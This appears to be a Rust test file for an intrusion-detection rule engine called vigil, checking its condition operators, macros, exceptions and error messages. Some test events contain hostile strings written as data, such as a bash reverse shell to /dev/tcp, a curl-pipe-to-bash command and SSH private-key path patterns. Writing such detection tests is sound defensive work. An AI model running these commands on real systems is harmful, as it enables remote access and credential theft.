//! Data-driven cases for every operator of the vigil condition language:
//! (condition, event, expected). Events are `field=value` lists; values are
//! typed by the field.

use vigil_rules::{Example, Field, Loader, RuleSet, Scratch, Value};

fn event(spec: &str) -> Example {
    let mut values = Vec::new();
    for part in spec.split(" ;; ").filter(|p| !p.is_empty()) {
        let (k, v) = part.split_once('=').expect("field=value");
        let f = Field::by_name(k).unwrap_or_else(|| panic!("unknown field {k}"));
        let val = match f.ty() {
            vigil_rules::Type::Str => Value::Str(v.as_bytes().to_vec().into()),
            vigil_rules::Type::Int => Value::Int(v.parse().unwrap()),
            vigil_rules::Type::Bool => Value::Bool(v == "true"),
            vigil_rules::Type::Ip => Value::Ip(v.parse().unwrap()),
        };
        values.push((f, val));
    }
    Example {
        line: 0,
        want: true,
        values,
    }
}

fn set(cond: &str) -> RuleSet {
    let mut l = Loader::new();
    let text = format!(
        "- list: shells\n  items: [bash, sh]\n- macro: is_exec\n  condition: event.action = exec\n- rule: r\n  condition: '{}'\n",
        cond.replace('\'', "''")
    );
    l.add_source("case.yaml", &text);
    let (s, r) = l.load();
    assert!(r.errors.is_empty(), "{cond}: {:?}", r.errors);
    s
}

fn check(cases: &[(&str, &str, bool)]) {
    for (cond, ev, want) in cases {
        let s = set(cond);
        let mut out = Vec::new();
        s.evaluate(&event(ev), &mut Scratch::new(), &mut out);
        assert_eq!(!out.is_empty(), *want, "condition `{cond}` on `{ev}`");
    }
}

const EXEC: &str = "event.action=exec ;; ";

#[test]
fn versioned_in_matches_names_with_a_version_suffix() {
    let c = "process.name vin (php-fpm, python, redis-server, shells)";
    check(&[
        (c, "event.action=exec ;; process.name=php-fpm", true),
        (c, "event.action=exec ;; process.name=php-fpm8.2", true),
        (c, "event.action=exec ;; process.name=python3", true),
        (c, "event.action=exec ;; process.name=python3.11", true),
        (c, "event.action=exec ;; process.name=redis-server-7", true),
        (c, "event.action=exec ;; process.name=bash5.2", true),
        (c, "event.action=exec ;; process.name=sh", true),
        (c, "event.action=exec ;; process.name=pythonista", false),
        (
            c,
            "event.action=exec ;; process.name=php-fpm-exporter",
            false,
        ),
        (c, "event.action=exec ;; process.name=python3.11x", false),
        (c, "event.action=exec ;; process.name=xpython3", false),
        (c, "event.action=exec ;; process.name=PHP-FPM8.2", false),
        (c, "event.action=exec", false),
    ]);
    // Only for strings.
    let mut l = Loader::new();
    l.add_source(
        "case.yaml",
        "- rule: r\n  condition: process.pid vin (1, 2)\n",
    );
    let (_, r) = l.load();
    assert!(
        r.errors.iter().any(|e| e.to_string().contains("vin")),
        "{:?}",
        r.errors
    );
}

#[test]
fn string_operators() {
    check(&[
        (
            "process.name = bash",
            "event.action=exec ;; process.name=bash",
            true,
        ),
        (
            "process.name = bash",
            "event.action=exec ;; process.name=Bash",
            false,
        ),
        (
            "process.name ieq bash",
            "event.action=exec ;; process.name=BaSh",
            true,
        ),
        (
            "process.name != bash",
            "event.action=exec ;; process.name=sh",
            true,
        ),
        (
            "process.name != bash",
            "event.action=exec ;; process.name=bash",
            false,
        ),
        // A missing field fails every test; `!=` is `not =`, so it holds.
        ("process.name != bash", "event.action=exec", true),
        ("process.name = bash", "event.action=exec", false),
        (
            "process.name in (shells, zsh)",
            "event.action=exec ;; process.name=sh",
            true,
        ),
        (
            "process.name in (shells, zsh)",
            "event.action=exec ;; process.name=zsh",
            true,
        ),
        (
            "process.name in (shells, zsh)",
            "event.action=exec ;; process.name=fish",
            false,
        ),
        (
            "process.name iin (BASH)",
            "event.action=exec ;; process.name=bash",
            true,
        ),
        (
            "file.path startswith /etc/",
            "event.action=open ;; file.path=/etc/passwd",
            true,
        ),
        (
            "file.path startswith /etc/",
            "event.action=open ;; file.path=/etcx",
            false,
        ),
        (
            "file.path istartswith /ETC/",
            "event.action=open ;; file.path=/etc/passwd",
            true,
        ),
        (
            "file.path endswith .so",
            "event.action=open ;; file.path=/lib/x.so",
            true,
        ),
        (
            "file.path endswith .so",
            "event.action=open ;; file.path=/lib/x.so.1",
            false,
        ),
        (
            "file.path iendswith .SO",
            "event.action=open ;; file.path=/lib/x.so",
            true,
        ),
        (
            "process.command_line contains /dev/tcp/",
            "event.action=exec ;; process.command_line=bash -i >& /dev/tcp/1.2.3.4/1 0>&1",
            true,
        ),
        (
            "process.command_line contains /dev/tcp/",
            "event.action=exec ;; process.command_line=ls /dev",
            false,
        ),
        (
            "process.command_line icontains DEV/TCP",
            "event.action=exec ;; process.command_line=x /dev/tcp/",
            true,
        ),
        (
            "process.command_line contains (foo, bar)",
            "event.action=exec ;; process.command_line=xbarx",
            true,
        ),
        (
            "file.path glob \"/home/*/.ssh/id_*\"",
            "event.action=open ;; file.path=/home/al/.ssh/id_rsa",
            true,
        ),
        // `*` crosses `/`.
        (
            "file.path glob \"/home/*/id_*\"",
            "event.action=open ;; file.path=/home/al/.ssh/id_rsa",
            true,
        ),
        (
            "file.path glob \"/a/?\"",
            "event.action=open ;; file.path=/a/b",
            true,
        ),
        (
            "file.path glob \"/a/?\"",
            "event.action=open ;; file.path=/a/bc",
            false,
        ),
        (
            "file.path glob \"/a/\\\\*\"",
            "event.action=open ;; file.path=/a/*",
            true,
        ),
        (
            "file.path glob \"/a/\\\\*\"",
            "event.action=open ;; file.path=/a/b",
            false,
        ),
        (
            "file.path iglob \"/A/*\"",
            "event.action=open ;; file.path=/a/b",
            true,
        ),
        (
            "process.command_line regex \"^curl .*\\|\\s*(ba)?sh\"",
            "event.action=exec ;; process.command_line=curl http://x | bash",
            true,
        ),
        (
            "process.command_line regex \"^curl .*\\|\\s*(ba)?sh\"",
            "event.action=exec ;; process.command_line=curl http://x -o f",
            false,
        ),
        // Regex is unanchored.
        (
            "process.command_line regex \"b+\"",
            "event.action=exec ;; process.command_line=abbbc",
            true,
        ),
        // Regex metacharacters in literals are literal.
        (
            "process.command_line contains \"a.b\"",
            "event.action=exec ;; process.command_line=axb",
            false,
        ),
        (
            "process.command_line contains \"a.b\"",
            "event.action=exec ;; process.command_line=a.b",
            true,
        ),
        (
            "process.command_line contains \"(x)\"",
            "event.action=exec ;; process.command_line=f(x)",
            true,
        ),
        // Quotes and escapes.
        (
            "process.command_line = \"say \\\"hi\\\"\"",
            "event.action=exec ;; process.command_line=say \"hi\"",
            true,
        ),
        (
            "process.command_line = 'a b'",
            "event.action=exec ;; process.command_line=a b",
            true,
        ),
        (
            "container.id exists",
            "event.action=exec ;; container.id=abc",
            true,
        ),
        ("container.id exists", "event.action=exec", false),
        ("not container.id exists", "event.action=exec", true),
    ]);
}

#[test]
fn numbers_booleans_addresses() {
    check(&[
        (
            "destination.port = 4444",
            "event.action=connect ;; destination.port=4444",
            true,
        ),
        (
            "destination.port = 0x115c",
            "event.action=connect ;; destination.port=4444",
            true,
        ),
        (
            "destination.port in (22, 80)",
            "event.action=connect ;; destination.port=80",
            true,
        ),
        (
            "destination.port < 1024",
            "event.action=connect ;; destination.port=80",
            true,
        ),
        (
            "destination.port < 1024",
            "event.action=connect ;; destination.port=1024",
            false,
        ),
        (
            "destination.port <= 1024",
            "event.action=connect ;; destination.port=1024",
            true,
        ),
        (
            "destination.port > 1024",
            "event.action=connect ;; destination.port=1025",
            true,
        ),
        (
            "destination.port >= 1025",
            "event.action=connect ;; destination.port=1024",
            false,
        ),
        ("user.id != 0", "event.action=exec ;; user.id=1000", true),
        (
            "vigil.exec.memfd = true",
            "event.action=exec ;; vigil.exec.memfd=true",
            true,
        ),
        (
            "vigil.exec.memfd = true",
            "event.action=exec ;; vigil.exec.memfd=false",
            false,
        ),
        (
            "vigil.exec.memfd = false",
            "event.action=exec ;; vigil.exec.memfd=false",
            true,
        ),
        (
            "destination.ip cidr 10.0.0.0/8",
            "event.action=connect ;; destination.ip=10.9.8.7",
            true,
        ),
        (
            "destination.ip cidr 10.0.0.0/8",
            "event.action=connect ;; destination.ip=11.0.0.1",
            false,
        ),
        (
            "destination.ip cidr (fe80::/10, 192.168.0.0/16)",
            "event.action=connect ;; destination.ip=fe80::1",
            true,
        ),
        (
            "destination.ip = 127.0.0.1",
            "event.action=connect ;; destination.ip=127.0.0.1",
            true,
        ),
        (
            "destination.ip = ::1",
            "event.action=connect ;; destination.ip=0:0::1",
            true,
        ),
        // String operators see an address's text form.
        (
            "destination.ip startswith \"192.168.\"",
            "event.action=connect ;; destination.ip=192.168.1.1",
            true,
        ),
    ]);
}

#[test]
fn logic_lists_macros() {
    check(&[
        (
            "is_exec and process.name in (shells)",
            &format!("{EXEC}process.name=bash"),
            true,
        ),
        (
            "is_exec and process.name in (shells)",
            "event.action=open ;; process.name=bash",
            false,
        ),
        (
            "process.name = a or process.name = b and user.id = 1",
            &format!("{EXEC}process.name=a ;; user.id=2"),
            true,
        ),
        (
            "(process.name = a or process.name = b) and user.id = 1",
            &format!("{EXEC}process.name=a ;; user.id=2"),
            false,
        ),
        (
            "not process.name = a and not process.name = b",
            &format!("{EXEC}process.name=c"),
            true,
        ),
        (
            "not (process.name = a or process.name = b)",
            &format!("{EXEC}process.name=b"),
            false,
        ),
        (
            "not not process.name = a",
            &format!("{EXEC}process.name=a"),
            true,
        ),
        ("true", EXEC, true),
        ("false", EXEC, false),
        (
            "process.name = a and false",
            &format!("{EXEC}process.name=a"),
            false,
        ),
    ]);
}

#[test]
fn exceptions_suppress_tuples() {
    let mut l = Loader::new();
    l.add_source(
        "x.yaml",
        r#"
- rule: shells
  condition: event.action = exec and process.name in (bash, sh)
  exceptions:
    - name: admin_tools
      fields: [process.parent.executable, process.name]
      comps: [startswith, "="]
      values:
        - [/usr/sbin/, bash]
        - [/opt/tool, sh]
"#,
    );
    let (s, r) = l.load();
    assert!(r.errors.is_empty(), "{:?}", r.errors);
    let cases = [
        (
            "event.action=exec ;; process.name=bash ;; process.parent.executable=/usr/sbin/sshd",
            false,
        ),
        (
            "event.action=exec ;; process.name=sh ;; process.parent.executable=/usr/sbin/sshd",
            true,
        ),
        (
            "event.action=exec ;; process.name=sh ;; process.parent.executable=/opt/tool",
            false,
        ),
        (
            "event.action=exec ;; process.name=bash ;; process.parent.executable=/usr/bin/x",
            true,
        ),
    ];
    for (ev, want) in cases {
        let mut out = Vec::new();
        s.evaluate(&event(ev), &mut Scratch::new(), &mut out);
        assert_eq!(!out.is_empty(), want, "{ev}");
    }
}

#[test]
fn rules_are_only_evaluated_on_their_categories() {
    let mut l = Loader::new();
    l.add_source(
        "x.yaml",
        "- rule: r\n  for_events: [file]\n  condition: process.name = bash\n",
    );
    let (s, _) = l.load();
    let mut out = Vec::new();
    s.evaluate(
        &event("event.action=exec ;; process.name=bash"),
        &mut Scratch::new(),
        &mut out,
    );
    assert!(out.is_empty());
    s.evaluate(
        &event("event.action=open ;; process.name=bash"),
        &mut Scratch::new(),
        &mut out,
    );
    assert_eq!(out.len(), 1);
}

#[test]
fn many_rules_match_independently_with_one_scratch() {
    let mut text = String::new();
    for i in 0..300 {
        text.push_str(&format!(
            "- rule: r{i}\n  condition: event.action = exec and process.command_line contains \"tok{i}x\"\n"
        ));
    }
    text.push_str("- rule: neg\n  condition: event.action = exec and not process.name = zzz\n");
    let mut l = Loader::new();
    l.add_source("many.yaml", &text);
    let (s, r) = l.load();
    assert!(r.errors.is_empty());
    let mut scratch = Scratch::new();
    for i in [0, 17, 299] {
        let mut out = Vec::new();
        s.evaluate(
            &event(&format!(
                "event.action=exec ;; process.name=a ;; process.command_line=a tok{i}x tok5x"
            )),
            &mut scratch,
            &mut out,
        );
        let mut ids: Vec<&str> = out.iter().map(|r| r.id.as_str()).collect();
        ids.sort();
        let mut want = vec!["neg".to_string(), format!("r{i}"), "r5".to_string()];
        want.sort();
        want.dedup();
        assert_eq!(ids, want, "event {i}");
    }
}

#[test]
fn errors_name_file_line_rule_and_field() {
    let cases: &[(&str, &str)] = &[
        (
            "- rule: a\n  condition: process.nmae = x\n",
            "x.yaml:2: rule `a`: condition: unknown field or macro `process.nmae` at column 1 (did you mean `process.name`?)",
        ),
        (
            "- rule: a\n  condition: true\n  severty: high\n",
            "x.yaml:3: rule `a`: unknown key `severty` (did you mean `severity`?)",
        ),
        (
            "- rule: a\n  condition: true\n  severity: urgent\n",
            "x.yaml:3: rule `a`: field `severity`: `urgent` is not one of info, low, medium, high, critical",
        ),
        (
            "- rule: a\n  condition: true\n  output: \"%proc.name\"\n",
            "x.yaml:3: rule `a`: output: unknown field `%proc.name` (did you mean `%process.name`?)",
        ),
        (
            "- rule: a\n  condition: destination.port = ssh\n",
            "x.yaml:2: rule `a`: condition: field `destination.port` is a number; `ssh` is not (column 18)",
        ),
        (
            "- rule: a\n  condition: m1\n- macro: m1\n  condition: m1\n",
            "x.yaml:2: rule `a`: condition: in macro `m1`: in macro `m1`: macro `m1` refers to itself",
        ),
        (
            "- rule: a\n  for_events: [procss]\n  condition: true\n",
            "x.yaml:2: rule `a`: field `for_events`: `procss` is not a category (process, file, network, iam, host, driver, configuration)",
        ),
        ("- rule: a\n  condition: [x\n", "x.yaml:3: YAML: "),
        (
            "- rule: 'bad id'\n  condition: true\n",
            "x.yaml:1: rule id `bad id` must be non-empty [A-Za-z0-9_.-]",
        ),
        (
            "- rule: a\n",
            "x.yaml:1: rule `a`: field `condition` is missing",
        ),
        ("key: value\n", "x.yaml:1: neither a vigil rule file"),
        (
            "- list: my_shells\n  items: [bash]\n- rule: a\n  condition: process.name in (zsh, my_shell)\n",
            "x.yaml:4: rule `a`: condition: unknown list `my_shell` at column 23 (did you mean `my_shells`?); a literal value of that shape is written quoted (\"my_shell\")",
        ),
    ];
    for (text, want) in cases {
        let mut l = Loader::new();
        l.add_source("x.yaml", text);
        let (_, r) = l.load();
        let got: Vec<String> = r.errors.iter().map(|e| e.to_string()).collect();
        assert!(
            got.iter().any(|g| g.starts_with(want)),
            "for {text:?}\n want prefix {want:?}\n got {got:?}"
        );
    }
}

#[test]
fn later_rules_override_and_disable() {
    let mut l = Loader::new();
    l.add_builtin();
    l.add_source(
        "local.yaml",
        "- rule: exec_from_temp_dir\n  enabled: false\n- rule: reverse_shell\n  severity: low\n  condition: event.action = exec and process.name = xyz\n",
    );
    let (s, r) = l.load();
    assert!(r.errors.is_empty(), "{:?}", r.errors);
    assert!(!s.rules().iter().any(|r| r.id == "exec_from_temp_dir"));
    let rs = s.rules().iter().find(|r| r.id == "reverse_shell").unwrap();
    assert_eq!(rs.severity, vigil_rules::Severity::Low);
    assert_eq!(r.disabled, 1);
}

#[test]
fn builtin_rules_load_and_their_examples_pass() {
    let mut l = Loader::new();
    l.add_builtin();
    let (s, r) = l.load();
    assert!(r.errors.is_empty(), "{:?}", r.errors);
    assert!(s.len() >= 25, "{}", s.len());
    let (n, failures) = s.test_examples();
    assert!(n >= 40, "{n} examples");
    assert!(failures.is_empty(), "{failures:#?}");
    // Every built-in rule carries a MITRE technique and at least one example.
    for rule in s.rules() {
        assert!(
            rule.tags.iter().any(|t| t.starts_with("attack.t")),
            "{} has no technique",
            rule.id
        );
        assert!(!rule.examples.is_empty(), "{} has no example", rule.id);
    }
}

#[test]
fn interest_follows_the_rules() {
    let mut l = Loader::new();
    l.add_source(
        "x.yaml",
        r#"
- rule: a
  condition: event.action = open and file.path startswith /srv/secret/
- rule: b
  condition: event.action = exec and process.name = x
- rule: c
  for_events: [file]
  condition: event.action = open and vigil.open.write = true and file.path endswith .so
- rule: d
  for_events: [file]
  condition: event.action = chmod and vigil.file_change.setid = true
"#,
    );
    let (s, r) = l.load();
    assert!(r.errors.is_empty());
    let i = s.interest();
    assert!(i.wants("file", "open"));
    assert!(i.wants("process", "exec"));
    assert!(!i.wants("process", "fork"));
    assert!(!i.wants("network", "connect"));
    assert!(i.file_prefixes.contains(b"/srv/secret/".as_slice()));
    assert!(i.all_file_writes);
    // a rule about chmod needs no opens at all
    assert!(!i.all_file_opens, "{:?}", i.all_opens_rules);
    assert!(i.wants("file", "chmod"));
}

#[test]
fn branches_about_other_events_do_not_make_a_rule_need_every_open() {
    let interest = |cond: &str| {
        let mut l = Loader::new();
        l.add_source(
            "x.yaml",
            &format!("- rule: r\n  for_events: [file, process]\n  condition: >\n    {cond}\n"),
        );
        let (s, r) = l.load();
        assert!(r.errors.is_empty(), "{:?}", r.errors);
        s.interest().clone()
    };
    // An exec branch beside a prefixed open branch: only the prefix.
    let i = interest(
        "(event.action = open and vigil.open.write = true and file.path startswith /etc/sudoers.d/) \
         or (event.action = exec and process.command_line contains NOPASSWD)",
    );
    assert!(!i.all_file_opens, "{:?}", i.all_opens_rules);
    assert!(i.file_prefixes.contains(b"/etc/sudoers.d/".as_slice()));
    // A file-change branch (unlink) and an exec branch beside a write-open
    // branch without a prefix: every write, not every open.
    let i = interest(
        "(event.action = unlink and file.path endswith /.bash_history) \
         or (event.action = exec and process.command_line contains HISTFILE) \
         or (event.action = open and vigil.open.write = true and file.path endswith /.bash_history)",
    );
    assert!(!i.all_file_opens, "{:?}", i.all_opens_rules);
    assert!(i.all_file_writes);
    // The control: a read branch without a prefix needs every open.
    let i = interest(
        "(event.action = exec and process.name = x) or (event.action = open and file.name = .netrc)",
    );
    assert!(i.all_file_opens);
    assert_eq!(i.all_opens_rules, ["r"]);
}
